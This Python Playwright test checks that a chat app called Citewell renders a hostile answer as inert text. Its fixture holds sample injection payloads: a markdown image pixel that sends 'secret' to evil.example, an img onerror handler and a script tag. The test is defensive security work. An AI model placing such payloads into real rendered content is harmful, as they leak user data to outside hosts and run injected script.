"""A hostile answer in the real chat, in a real browser: it is shown, and nothing in it is live."""

from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect, sync_playwright

from tests.browser import chromium
from tests.server import serving

pytestmark = pytest.mark.browser

DOCUMENT = """# Notes

See ![pixel](http://evil.example/?q=secret) and [this](http://evil.example) or www.evil.example or me@evil.example.

<img src="http://evil.example/x.png" onerror="document.title='owned'"> <script>document.title='owned'</script>
"""
CODE = 'A[<img src=x>] --> B\n\nif a[1] < 2: return "&lt;"'
ANSWER = DOCUMENT.split("\n\n", 1)[1] + f"\nUse `x[0] < 3 && '<b>'` so:\n```mermaid\n{CODE}\n```\nThat is **all**."


@pytest.fixture
def page(tmp_path: Path) -> Iterator[Page]:
    (tmp_path / "notes.md").write_text(DOCUMENT)
    (tmp_path / "answer.txt").write_text(ANSWER)
    files = str(tmp_path / "answer.txt"), "0", str(tmp_path / "notes.md")
    with (
        serving(tmp_path / "library", tmp_path, *files, program=["tests.scripted_app"]) as address,
        sync_playwright() as playwright,
    ):
        browser = playwright.chromium.launch(executable_path=chromium(), args=["--no-sandbox"])
        page = browser.new_page()
        page.goto(address)
        yield page
        browser.close()


def test_an_answer_of_hostile_text_loads_nothing_links_nowhere_and_shows_its_code(page: Page) -> None:
    hosts: set[str] = set()
    page.on("request", lambda request: hosts.add(urlsplit(request.url).hostname or ""))
    page.locator("#cw-question textarea").fill("What do the notes say to see?")
    page.locator("#cw-question textarea").press("Enter")
    chat = page.locator("#cw-chat")
    expect(chat).to_contain_text("That is all.", timeout=30_000)
    expect(page.locator("#cw-quotes .cw-title")).to_have_text("Quotes", timeout=30_000)
    bot = chat.locator(".bot")
    expect(bot).to_contain_text("![pixel](http://evil.example/?q=secret)")
    expect(bot).to_contain_text('<img src="http://evil.example/x.png"')
    assert bot.locator("strong").inner_text() == "all"
    assert bot.locator("code").all_inner_texts() == ["x[0] < 3 && '<b>'", CODE]
    for part in (bot.locator(".prose"), page.locator("#cw-quotes")):
        assert part.locator("a, img, script, iframe, svg.mermaid").count() == 0
    assert page.title() == "Citewell"
    assert hosts == {"127.0.0.1"}
